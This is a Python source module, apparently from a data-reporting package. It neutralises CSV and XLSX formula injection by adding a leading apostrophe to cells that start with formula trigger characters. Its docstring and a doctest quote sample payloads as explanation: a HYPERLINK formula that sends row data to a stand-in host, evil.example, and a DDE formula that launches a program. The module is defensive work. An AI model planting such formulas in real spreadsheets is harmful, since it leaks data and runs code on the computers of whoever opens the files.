"""Spreadsheet cells that cannot run: the CSV-injection rule of every CSV and XLSX sqmkit writes.

Text in the data comes from many hands (a complaint category, a team name, a cause typed in a workshop).
A spreadsheet program opening a CSV or XLSX treats a cell starting with ``=``, ``+``, ``-`` or ``@`` as a
formula — ``=HYPERLINK("http://evil.example/?leak="&A2,"x")`` sends the row to a stranger's server,
``=cmd|' /C calc'!A0`` (DDE) starts a program — and a leading tab or carriage return can hide such a
cell from a quick look. The rule, as the OWASP "CSV Injection" page recommends:

==================================  ==========================================================
cell                                written as
==================================  ==========================================================
text starting with ``=`` ``+``      the same text after a leading apostrophe ``'``:
``-`` ``@``, TAB or CR              ``'=HYPERLINK(…)``, ``'@SUM(A1)``, ``'-x``, ``'\\tabc``
a plain number (``-5``, ``+3.2``,   unchanged: a number, not a formula
``1e5``, ``-1,234.5``, ``-12%``)
any other text, numbers, dates,     unchanged
blanks
==================================  ==========================================================

The apostrophe is visible text in the cell (Excel and LibreOffice show ``'=HYPERLINK(…)``): the value is
readable, nothing runs. The rule is idempotent (a neutralised text starts with ``'`` and is left alone),
so a table written twice gains one apostrophe, not two. XLSX files are written with values only: every
text cell sqmkit writes is a string cell (:func:`text_cell`), never a formula.

Where it is applied: the report's ``tables/*.csv`` (:meth:`sqmkit.report.Recorder.table`) and
``tables.xlsx`` (:func:`sqmkit.report.export_tables`); the workshop saves of :mod:`sqmkit.writeback`
(new and changed cells only: a client's rows that were not edited keep their exact text) and so
``sqmkit import-events``, which writes the tickets table through it.

References
----------
OWASP Foundation, "CSV Injection", https://owasp.org/www-community/attacks/CSV_Injection (the list of
leading characters ``=`` ``+`` ``-`` ``@`` tab ``0x09`` and carriage return ``0x0D``, and the advice to
prepend a single quote).

Examples
--------
>>> neutralise('=HYPERLINK("http://evil.example/?leak="&A2,"x")')
'\\'=HYPERLINK("http://evil.example/?leak="&A2,"x")'
>>> neutralise("-5"), neutralise("+3.2"), neutralise("1e5"), neutralise(-5)
('-5', '+3.2', '1e5', -5)
>>> neutralise("华南组")
'华南组'
"""
from __future__ import annotations

import re
from typing import Any

import pandas as pd

__all__ = ["TRIGGERS", "neutralise", "neutralise_frame", "is_plain_number", "is_dangerous", "text_cell"]

#: Leading characters that make a spreadsheet read a cell as a formula (OWASP "CSV Injection").
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

# A sign, digits with optional thousands commas or a decimal comma, an optional fraction, exponent and %:
# what a spreadsheet reads as a number and never as a formula.
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d[\d,]*(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?%?")


def is_plain_number(text: str) -> bool:
    """``text`` is a plain number (``-5``, ``+3.2``, ``1e5``, ``-1,234.5``, ``-12%``), nothing more.

    >>> is_plain_number("-5"), is_plain_number("-5+1"), is_plain_number("-")
    (True, False, False)
    """
    return _PLAIN_NUMBER.fullmatch(text) is not None


def is_dangerous(value: Any) -> bool:
    """``value`` is text a spreadsheet could run: it starts with one of :data:`TRIGGERS` and is no plain number."""
    return isinstance(value, str) and value.startswith(TRIGGERS) and not is_plain_number(value)


def neutralise(value: Any) -> Any:
    """``value`` with a leading apostrophe when it is text a spreadsheet could run (see the module notes).

    Anything that is not a ``str`` (numbers, dates, ``None``, NaN) is returned as it is.
    """
    return "'" + value if is_dangerous(value) else value


def _neutralise_labels(labels: pd.Index) -> pd.Index:
    if isinstance(labels, pd.MultiIndex):
        return pd.MultiIndex.from_tuples([tuple(neutralise(v) for v in t) for t in labels], names=labels.names)
    return pd.Index([neutralise(v) for v in labels], name=labels.name)


def neutralise_frame(data: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``data`` with every text cell and column name neutralised (:func:`neutralise`).

    Numeric, date and flag columns are left as they are; a text column (object, string or category
    dtype) with a value to neutralise becomes an object column. ``data`` itself is not changed.

    >>> neutralise_frame(pd.DataFrame({"team": ["@ops", "华南"], "n": [-5, 3]})).to_dict("list")
    {'team': ["'@ops", '华南'], 'n': [-5, 3]}
    """
    out = data.copy()
    for position in range(out.shape[1]):
        column = out.iloc[:, position]
        if pd.api.types.is_numeric_dtype(column.dtype) or pd.api.types.is_datetime64_any_dtype(column.dtype) \
                or isinstance(column.dtype, pd.PeriodDtype):
            continue
        values = column.astype(object).to_numpy(copy=True)
        dangerous = [i for i, v in enumerate(values) if is_dangerous(v)]
        if dangerous:
            values[dangerous] = ["'" + values[i] for i in dangerous]
            out.isetitem(position, pd.Series(values, index=out.index, dtype=object))
    out.columns = _neutralise_labels(out.columns)
    return out


def text_cell(cell: Any, value: Any) -> None:
    """Set an openpyxl ``cell`` to ``value``; text is stored as a string cell, never as a formula.

    openpyxl turns any string starting with ``=`` into a formula; this keeps it a string (after
    :func:`neutralise`, which the caller applies to cells it writes from data).
    """
    cell.value = value
    if isinstance(value, str):
        cell.data_type = "s"
